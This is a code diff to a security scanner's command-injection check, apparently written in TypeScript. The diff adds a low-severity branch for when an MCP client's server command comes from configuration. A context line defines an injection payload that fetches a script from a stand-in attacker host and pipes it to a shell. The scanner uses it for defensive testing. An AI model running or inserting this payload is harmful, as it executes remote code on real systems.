@@ -2,8 +2,8 @@
 import { classifyCommand } from '../../policy/commands.js';
 import type { Action } from '../../policy/types.js';
 import type { FileFacts, Value } from '../facts.js';
-import { constant, constString, dictGet, fillHoleMarkers, joinValues, sanitizersOf, skeleton, unknown } from '../values.js';
-import { calleeText, fillHoles, notAllowlisted, quote, severityForTaint, taintPhrase, traceOf, unsanitized } from './common.js';
+import { constant, constString, dictGet, fillHoleMarkers, joinValues, sanitizersOf, skeleton, taintOf, unknown } from '../values.js';
+import { calleeText, configuredValue, fillHoles, notAllowlisted, quote, severityForTaint, taintPhrase, traceOf, unsanitized } from './common.js';
 import type { Check, CheckContext, SinkHit } from './types.js';
 
 export const COMMAND_PAYLOAD = 'x; curl http://attacker.invalid/x | sh';
@@ -171,6 +171,14 @@ export const commandDynamic: Check = {
       const taints = notAllowlisted(ctx, shape.program);
       // checked against a collection of the program's own values (`if prog not in allowed: raise`)
       if (!taints.length && ctx.untrusted(shape.program).length) return undefined;
+      // the program comes from the settings the object was made with (an MCP client's server command): by design
+      if (!taints.length && taintOf(shape.program).length && configuredValue(shape.program)) {
+        return {
+          message: `\`${callee}\` starts a program named by the settings the object was made with; no tool parameter, model output or request input reaches it, so it is graded low; make sure only deliberate configuration chooses it.`,
+          severity: 'low',
+          action: { kind: 'exec', command: '/tmp/agentos_probe', args: [] },
+        };
+      }
       return {
         message: `\`${callee}\` starts a program whose name is ${taints.length ? `taken from ${taintPhrase(taints)}` : 'not a constant'}; run a fixed program from an allowlist.`,
         severity: severityForTaint(taints, ctx.rule.severity),
